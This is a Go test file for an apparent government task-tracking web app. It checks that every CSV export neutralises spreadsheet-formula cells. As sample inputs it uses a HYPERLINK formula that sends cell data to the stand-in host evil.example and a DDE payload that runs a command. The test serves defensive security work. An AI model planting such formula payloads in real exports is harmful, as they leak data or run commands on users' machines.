package web_test

import (
	"context"
	stdcsv "encoding/csv"
	"net/http"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"tiendo/internal/agency"
)

// TestCSVFormulaInjection: a task title and an agency name written as
// spreadsheet formulas come out of every CSV — the task list, the
// dashboard, the ranking and the open datasets — as text a spreadsheet
// does not run (a leading apostrophe), while numbers stay numbers.
func TestCSVFormulaInjection(t *testing.T) {
	a := newApp(t)
	ctx := context.Background()
	const title = `=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`
	task := a.task(a.f.taskLater)
	task.Title = title
	evil := agency.Agency{Name: `@SUM(1+1)*cmd|' /C calc'!A0`, Kind: agency.KindDepartment, ParentID: a.f.agencyUBND}
	if err := a.store.CreateAgency(ctx, 0, &evil); err != nil {
		t.Fatal(err)
	}
	task.LeadAgencyID = evil.ID
	if err := a.store.UpdateTask(ctx, 0, task); err != nil {
		t.Fatal(err)
	}
	plan := "/plans/" + ids(a.f.planID)
	paths := []string{plan + "/tasks.csv", plan + "/dashboard.csv", plan + "/ranking.csv?year=2025"}
	for _, m := range regexp.MustCompile(`href="(/open/[^"]+\.csv)"`).FindAllStringSubmatch(a.anon().get("/open/").body, -1) {
		paths = append(paths, m[1])
	}
	c := a.as("coordinator")
	seen := map[string]bool{}
	for _, p := range paths {
		r := c.get(p)
		if r.status != http.StatusOK {
			t.Errorf("GET %s: %d", p, r.status)
			continue
		}
		rows, err := stdcsv.NewReader(strings.NewReader(strings.TrimPrefix(r.body, "\ufeff"))).ReadAll()
		if err != nil {
			t.Errorf("GET %s: %v", p, err)
			continue
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell == "" || !strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					seen[cell] = true
					continue
				}
				if _, err := strconv.ParseFloat(strings.ReplaceAll(cell, ",", "."), 64); err != nil {
					t.Errorf("GET %s: cell %q would run as a formula", p, cell)
				}
			}
		}
	}
	if !seen["'"+title] || !seen["'"+evil.Name] {
		t.Errorf("the title or the agency's name, neutralised, is in no CSV (title %t, agency %t): the test looks in the wrong place", seen["'"+title], seen["'"+evil.Name])
	}
}
